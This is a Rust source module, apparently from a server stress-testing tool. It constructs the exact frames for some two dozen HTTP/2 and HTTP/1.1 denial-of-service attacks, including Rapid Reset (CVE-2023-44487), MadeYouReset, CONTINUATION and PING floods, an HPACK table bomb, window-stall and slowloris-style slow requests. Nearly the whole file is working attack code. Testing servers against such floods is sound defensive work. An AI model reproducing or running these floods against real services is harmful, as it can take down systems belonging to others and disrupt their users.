//! What each attack sends.

use std::time::Duration;

use clap::ValueEnum;

use crate::client::frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PADDED, PING, PRIORITY, RST_STREAM, SETTINGS,
    WINDOW_UPDATE, field, frame, head, integer, preface, request,
};

/// Frames sent in one go.
const AT_ONCE: u64 = 200;
/// A field's bytes in the bomb: nearly the whole of the table.
const BOMB_BYTES: usize = 3900;

/// What an attack does.
#[derive(Debug, Clone, Copy, ValueEnum)]
pub(super) enum Kind {
    /// Opens streams and resets them at once (CVE-2023-44487).
    RapidReset,
    /// The same, after they were taken.
    LateReset,
    /// Has the server reset: windows opened by nothing (CVE-2025-8671).
    MadeYouReset,
    /// The same: windows opened beyond what there is.
    WindowOverflow,
    /// Resets a stream that is over, again and again.
    StaleReset,
    /// A head without end.
    Continuation,
    /// The same, of nothing.
    EmptyContinuation,
    /// One large entry of the table, named again and again.
    HpackBomb,
    /// Cookies in crumbs.
    CookieCrumbs,
    /// DATA with nothing in it.
    EmptyData,
    /// DATA of padding.
    PaddedData,
    /// A byte in each DATA frame, to who does not read.
    TinyData,
    /// PING.
    Ping,
    /// PING, whose answers are not read.
    UnreadPing,
    /// SETTINGS.
    Settings,
    /// PRIORITY.
    Priority,
    /// WINDOW_UPDATE by one.
    WindowUpdate,
    /// Frames of a kind that nobody knows.
    Unknown,
    /// Asks for much and opens no window.
    WindowStall,
    /// Asks for much and opens windows byte by byte.
    ByteWindows,
    /// More streams than were offered.
    ManyStreams,
    /// A head byte by byte.
    SlowHead,
    /// A body byte by byte.
    SlowBody,
    /// Requests one behind the other, whose answers are not read.
    Pipelined,
    /// Chunks of one byte.
    TinyChunks,
    /// Requests that are none, on a new connection each.
    BadHeads,
}

/// One connection's bytes.
pub(super) struct Flood {
    /// First of all.
    pub(super) opening: Vec<u8>,
    /// Then these, by number.
    pub(super) batch: Box<dyn FnMut(u64) -> Vec<u8> + Send>,
    /// Pause behind each.
    pub(super) pause: Duration,
    /// Whether what comes back is read.
    pub(super) reads: bool,
}

impl Flood {
    fn of(opening: Vec<u8>, batch: impl FnMut(u64) -> Vec<u8> + Send + 'static) -> Self {
        Self { opening, batch: Box::new(batch), pause: Duration::ZERO, reads: true }
    }

    /// The same piece again and again.
    fn same(opening: Vec<u8>, piece: Vec<u8>) -> Self {
        Self::of(opening, move |_| piece.clone())
    }

    fn unread(self) -> Self {
        Self { reads: false, ..self }
    }

    fn every(self, ms: u64) -> Self {
        Self { pause: Duration::from_millis(ms), ..self }
    }
}

/// The streams of a batch.
fn streams(batch: u64, count: u64) -> impl Iterator<Item = u32> {
    let stream = |n: u64| u32::try_from(2 * n + 1).unwrap_or(u32::MAX) & 0x7fff_ffff;
    (batch * count..(batch + 1) * count).map(stream)
}

fn many(piece: &[u8]) -> Vec<u8> {
    piece.repeat(usize::try_from(AT_ONCE).unwrap_or_default())
}

/// A request whose body goes on, on the first stream.
fn upload(host: &str, path: &str) -> Vec<u8> {
    [preface(&[]), head(0, 1, &request("POST", host, path))].concat()
}

impl Kind {
    /// What a connection to a host sends.
    pub(super) fn flood(self, host: &str) -> Flood {
        let get = |path: &str| request("GET", host, path);
        match self {
            Self::RapidReset => resets(get("/sleep/50"), AT_ONCE),
            // Long enough to be taken, too short to be answered.
            Self::LateReset => late_resets(get("/sleep/5000")).every(5),
            Self::MadeYouReset => made(get("/sleep/50"), 0),
            Self::WindowOverflow => made(get("/sleep/50"), 0x7fff_ffff),
            Self::StaleReset => {
                let opening = [
                    preface(&[]),
                    head(END_STREAM, 1, &get("/sleep/50")),
                    frame(RST_STREAM, 0, 1, &8_u32.to_be_bytes()),
                ];
                Flood::same(opening.concat(), many(&frame(RST_STREAM, 0, 1, &8_u32.to_be_bytes())))
            }
            Self::Continuation | Self::EmptyContinuation => {
                let opening = [preface(&[]), frame(HEADERS, END_STREAM, 1, &get("/"))].concat();
                let is_empty = matches!(self, Self::EmptyContinuation);
                let piece = if is_empty { Vec::new() } else { field(b"x-long", &[b'y'; 1000]) };
                Flood::same(opening, many(&frame(CONTINUATION, 0, 1, &piece)))
            }
            Self::HpackBomb => bomb(&get("/sleep/50")),
            Self::CookieCrumbs => {
                let block = [get("/sleep/50"), field(b"cookie", b"a").repeat(5000)].concat();
                // 5 MB a second: what more costs is the way of the bytes, whatever is in them.
                let two = move |n| streams(n, 2).flat_map(|id| head(END_STREAM, id, &block)).collect();
                Flood::of(preface(&[]), two).every(20)
            }
            Self::EmptyData => Flood::same(upload(host, "/upload"), many(&frame(DATA, 0, 1, b""))),
            Self::PaddedData => {
                let padding = [&[200][..], &[0; 200]].concat();
                Flood::same(upload(host, "/upload"), many(&frame(DATA, PADDED, 1, &padding)))
            }
            Self::TinyData => Flood::same(upload(host, "/hang"), many(&frame(DATA, 0, 1, b"x"))),
            Self::Ping => Flood::same(preface(&[]), many(&frame(PING, 0, 0, &[0; 8]))),
            Self::UnreadPing => Flood::same(preface(&[]), many(&frame(PING, 0, 0, &[0; 8]))).unread(),
            Self::Settings => Flood::same(preface(&[]), many(&frame(SETTINGS, 0, 0, b""))),
            Self::Priority => Flood::same(preface(&[]), many(&frame(PRIORITY, 0, 3, &[0, 0, 0, 1, 9]))),
            Self::WindowUpdate => {
                Flood::same(preface(&[]), many(&frame(WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes())))
            }
            Self::Unknown => Flood::same(preface(&[]), many(&frame(0xbe, 0, 0, b"nobody knows"))),
            Self::WindowStall => stalled(get("/bytes/100000000"), 100),
            Self::ByteWindows => {
                let windows: Vec<u8> =
                    streams(0, 50).flat_map(|id| frame(WINDOW_UPDATE, 0, id, &1_u32.to_be_bytes())).collect();
                Flood::same(stalled(get("/bytes/100000000"), 50).opening, windows)
            }
            Self::ManyStreams => {
                let block = get("/sleep/5000");
                Flood::of(preface(&[]), move |n| {
                    streams(n, AT_ONCE).flat_map(|id| head(END_STREAM, id, &block)).collect()
                })
            }
            Self::SlowHead | Self::SlowBody | Self::Pipelined | Self::TinyChunks | Self::BadHeads => {
                self.in_text(host)
            }
        }
    }

    /// The attacks of HTTP/1.1.
    fn in_text(self, host: &str) -> Flood {
        let line = |method: &str, path: &str| format!("{method} {path} HTTP/1.1\r\nHost: {host}\r\n");
        let chunked = format!("{}Transfer-Encoding: chunked\r\n\r\n", line("POST", "/upload")).into_bytes();
        match self {
            Self::SlowHead => Flood::same(line("GET", "/").into_bytes(), b"x".to_vec()).every(1000),
            Self::SlowBody => Flood::same(chunked, b"1\r\nx\r\n".to_vec()).every(1000),
            Self::Pipelined => {
                let one = format!("{}\r\n", line("GET", "/bytes/100000"));
                Flood::same(Vec::new(), many(one.as_bytes())).unread()
            }
            Self::TinyChunks => Flood::same(chunked, many(b"1\r\nx\r\n")),
            _ => Flood::same(b"GET / HTTP/1.1\r\nHost: a\nb\r\n\r\n".to_vec(), Vec::new()).every(1000),
        }
    }
}

fn resets(block: Vec<u8>, count: u64) -> Flood {
    Flood::of(preface(&[]), move |n| {
        let one =
            |id| [head(END_STREAM, id, &block), frame(RST_STREAM, 0, id, &8_u32.to_be_bytes())].concat();
        streams(n, count).flat_map(one).collect()
    })
}

fn late_resets(block: Vec<u8>) -> Flood {
    Flood::of(preface(&[]), move |n| {
        let opened = streams(n, 20).flat_map(|id| head(END_STREAM, id, &block));
        let before = n.checked_sub(1).into_iter().flat_map(|last| streams(last, 20));
        let reset = before.flat_map(|id| frame(RST_STREAM, 0, id, &8_u32.to_be_bytes()));
        opened.chain(reset).collect()
    })
}

/// Streams whose windows are opened by what cannot be.
fn made(block: Vec<u8>, by: u32) -> Flood {
    Flood::of(preface(&[]), move |n| {
        let one = |id| [head(0, id, &block), frame(WINDOW_UPDATE, 0, id, &by.to_be_bytes())].concat();
        streams(n, AT_ONCE).flat_map(one).collect()
    })
}

/// An entry that fills the table, then heads that name it many times.
fn bomb(block: &[u8]) -> Flood {
    // A literal that is kept, with a new name.
    let mut entry = vec![0x40];
    for part in [&b"x-bomb"[..], &[b'y'; BOMB_BYTES]] {
        integer(&mut entry, 0, 7, part.len());
        entry.extend_from_slice(part);
    }
    let opening = [preface(&[]), head(END_STREAM, 1, &[block, &entry].concat())].concat();
    // The first entry behind the 61 that everybody has.
    let named = [block, &vec![0x80 | 62; 16_000]].concat();
    Flood::of(opening, move |n| {
        streams(n, 10)
            .skip(1)
            .flat_map(|id| frame(HEADERS, END_STREAM | END_HEADERS, id, &named[..16_000]))
            .collect()
    })
}

/// Requests for much by who opens no window.
fn stalled(block: Vec<u8>, count: u64) -> Flood {
    // SETTINGS_INITIAL_WINDOW_SIZE.
    let opened = streams(0, count).flat_map(|id| head(END_STREAM, id, &block));
    let opening = preface(&[(4, 0)]).into_iter().chain(opened).collect();
    Flood::same(opening, Vec::new()).every(100)
}
